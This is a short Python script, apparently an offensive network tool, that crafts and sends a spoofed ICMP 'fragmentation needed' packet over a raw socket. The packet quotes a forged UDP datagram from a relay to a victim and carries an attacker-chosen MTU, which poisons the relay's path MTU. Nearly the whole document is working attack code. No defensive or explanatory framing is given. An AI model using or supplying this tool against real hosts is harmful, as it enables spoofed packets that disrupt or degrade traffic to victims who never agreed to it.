# Forged ICMP "fragmentation needed" (type 3 code 4) to the relay, quoting a UDP datagram relay:port -> victim:vport.
import socket, struct, sys, ipaddress
relay, rport, victim, vport, mtu = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
def csum(d):
    if len(d) % 2: d += b'\0'
    s = sum(struct.unpack('!%dH' % (len(d)//2), d))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
inner = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 1308, 0, 0, 64, 17, 0, ipaddress.IPv4Address(relay).packed, ipaddress.IPv4Address(victim).packed)
inner = inner[:10] + struct.pack('!H', csum(inner)) + inner[12:]
udp = struct.pack('!HHHH', rport, vport, 1288, 0)
icmp = struct.pack('!BBHHH', 3, 4, 0, 0, mtu) + inner + udp
icmp = icmp[:2] + struct.pack('!H', csum(icmp)) + icmp[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(icmp, (relay, 0))
print("sent frag-needed mtu", mtu, "for", victim, vport)
